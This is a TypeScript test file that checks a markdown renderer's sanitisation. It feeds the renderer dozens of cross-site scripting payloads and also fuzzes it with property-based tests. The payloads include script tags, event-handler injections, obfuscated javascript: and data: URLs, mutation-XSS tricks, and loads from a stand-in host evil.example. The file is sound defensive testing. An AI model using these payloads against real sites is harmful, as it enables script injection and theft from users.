import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "@/lib/platform/markdown/render";
import { dangers } from "@/tests/support/html-dangers";

const payloads = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
  "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
  "<form id=location><input name=href></form>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<div style='position:fixed;inset:0'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](<\u0001javascript:alert(1)>)",
  "[x](&#1;javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.org/1)",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
  '[x](https://a.example/"onmouseover="alert(1))',
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](/media/a.webp)',
  '![x](/media/a.webp"onerror="alert(1))',
  "![x](/media/../../api/v1/sign-out)",
  "![x](/media/%2e%2e/x)",
  "![x](//evil.example/media/a.png)",
  "![x](https://evil.example/pixel.gif)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "```js onload=alert(1)\nx\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "# location\n\n# __proto__\n\n# constructor",
  "[^__proto__] [^toString]\n\n[^__proto__]: x\n[^toString]: y",
  '[^"><script>]\n\n[^"><script>]: x',
  "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
  "@javascript:alert @<b> @x'onclick=alert(1)",
  "\u0000<scr\u0000ipt>alert(1)</script>",
  "https://a.example/<script>alert(1)</script>",
  'www.a.example/"onmouseover=alert(1)//',
  "xmpp:a@b.example/javascript:alert(1)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "`<script>alert(1)</script>`",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo '<script>' ?>",
];

describe("hostile input", () => {
  it.each(payloads)("renders %j harmless", (payload) => {
    expect(dangers(renderMarkdown(payload).html)).toEqual([]);
  });

  it.each(["> ", "- ", "# ", "[", "**", "| ", "[^1]: ", "    ", "\\"])(
    "renders payloads after %j harmless",
    (prefix) => {
      for (const payload of payloads) expect(dangers(renderMarkdown(prefix + payload).html), payload).toEqual([]);
    },
  );

  it("never makes a script, an event handler or a dangerous address", () => {
    const marks =
      "[ ]( ) ![ < > ` # ** ~~ | |- [^1] : // /media/ javascript: data: onload= script &#x3C; &quot; \" ' @ab";
    const spaces = [" ", "\t", "\n", "\n\n", "\n> ", "\n- ", "\n|-|\n", "\n    "];
    const piece = fc.oneof(
      fc.constantFrom(...marks.split(" "), ...spaces, ...payloads),
      fc.string({ unit: "grapheme", maxLength: 8 }),
    );
    const source = fc.array(piece, { maxLength: 25 }).map((pieces) => pieces.join(""));
    fc.assert(
      fc.property(source, (text) => {
        expect(dangers(renderMarkdown(text).html)).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  it("sees a danger when there is one", () => {
    expect(dangers("<p onclick=x><a href='java&#115;cript:x' id=top>x</a><img src=/x.png><svg></svg>")).toHaveLength(6);
  });
});
